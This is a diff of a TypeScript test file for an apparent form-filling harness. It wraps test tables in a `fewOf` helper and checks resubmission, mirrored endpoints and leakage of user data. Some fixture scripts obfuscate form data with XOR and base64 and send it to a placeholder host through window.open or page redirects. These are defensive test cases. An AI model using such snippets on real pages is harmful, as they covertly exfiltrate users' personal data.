@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { fewOf } from '#tests/setup/few-of.ts';
 import { apply } from '../apply-harness.ts';
 import { onSites } from './on-sites.ts';
 import { asPage, QUESTIONS } from './serve-site.ts';
@@ -16,17 +17,19 @@ const sends = (way: string, button = 'Submit application', before = '') =>
 const TROUBLE = `note.textContent = 'There was a problem, please try again.';`;
 
 describe('an application whose answers were saved before', () => {
-  it.each([
-    ['a GET', `await fetch('/api/draft/77/submit'); ${TROUBLE}`, '/api/draft/77/submit'],
-    ['a page', `location.href = '/applications/77/submit?t=abc';`, '/applications/77/submit'],
-    ['a picture', `new Image().src = '/api/draft/77/finish'; ${TROUBLE}`, '/api/draft/77/finish'],
-    [
-      'a word to what counts visitors',
-      `await fetch('/api/events', { method: 'POST', body: '{"type":"submit"}' }); ${TROUBLE}`,
-      '/api/events',
-    ],
-    ['an address that says nothing', `await fetch('/api/b7x'); ${TROUBLE}`, '/api/b7x'],
-  ])('and that goes by %s is not released for a second yes', async (_what, way, path) => {
+  it.each(
+    fewOf([
+      ['a GET', `await fetch('/api/draft/77/submit'); ${TROUBLE}`, '/api/draft/77/submit'],
+      ['a page', `location.href = '/applications/77/submit?t=abc';`, '/applications/77/submit'],
+      ['a picture', `new Image().src = '/api/draft/77/finish'; ${TROUBLE}`, '/api/draft/77/finish'],
+      [
+        'a word to what counts visitors',
+        `await fetch('/api/events', { method: 'POST', body: '{"type":"submit"}' }); ${TROUBLE}`,
+        '/api/events',
+      ],
+      ['an address that says nothing', `await fetch('/api/b7x'); ${TROUBLE}`, '/api/b7x'],
+    ]),
+  )('and that goes by %s is not released for a second yes', async (_what, way, path) => {
     sites.page(path, (_request, response) =>
       response
         .writeHead(500, { 'content-type': 'text/html' })
@@ -83,12 +86,14 @@ describe('an application that its page sends to another address as well', () => 
     sends(
       `const body = JSON.stringify(Object.fromEntries(new FormData(f))); const send = (to) => fetch(to, { method: 'POST', body }); ${then}`,
     );
-  it.each([
-    [500, 1],
-    [503, 1],
-    [404, 2],
-    [405, 2],
-  ])('goes once unless the first says that it did not take it (%i)', async (status, times) => {
+  it.each(
+    fewOf([
+      [500, 1],
+      [503, 1],
+      [404, 2],
+      [405, 2],
+    ]),
+  )('goes once unless the first says that it did not take it (%i)', async (status, times) => {
     for (const path of ['/v2/apply', '/v1/apply'])
       sites.page(path, (_request, response) =>
         response.writeHead(path === '/v2/apply' ? status : 200, { 'content-type': 'text/html' }).end('x'),
@@ -143,18 +148,20 @@ describe('numbers that may be a code of what is to be done', () => {
 
 describe('once the user said yes', () => {
   const CIPHER = `const data = btoa([...new URLSearchParams(new FormData(f)).toString()].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 42)).join(''));`;
-  it.each([
-    ['a window', `open('${'TO'}/c?d=' + encodeURIComponent(data));`],
-    ['a window without a query', `open('${'TO'}/' + data.replace(/\\W/g, ''));`],
-    [
-      'the page itself',
-      `setTimeout(() => { location.href = '${'TO'}/c?d=' + encodeURIComponent(data); }, 300);`,
-    ],
-    [
-      'a part of the address that stays in the browser',
-      `setTimeout(() => { location.href = '${'TO'}/c#' + encodeURIComponent(data); }, 300);`,
-    ],
-  ])('nothing of theirs goes in cipher to a site that they did not approve, by %s', async (_what, way) => {
+  it.each(
+    fewOf([
+      ['a window', `open('${'TO'}/c?d=' + encodeURIComponent(data));`],
+      ['a window without a query', `open('${'TO'}/' + data.replace(/\\W/g, ''));`],
+      [
+        'the page itself',
+        `setTimeout(() => { location.href = '${'TO'}/c?d=' + encodeURIComponent(data); }, 300);`,
+      ],
+      [
+        'a part of the address that stays in the browser',
+        `setTimeout(() => { location.href = '${'TO'}/c#' + encodeURIComponent(data); }, 300);`,
+      ],
+    ]),
+  )('nothing of theirs goes in cipher to a site that they did not approve, by %s', async (_what, way) => {
     const url = sites.page(
       '/in-cipher',
       asPage(
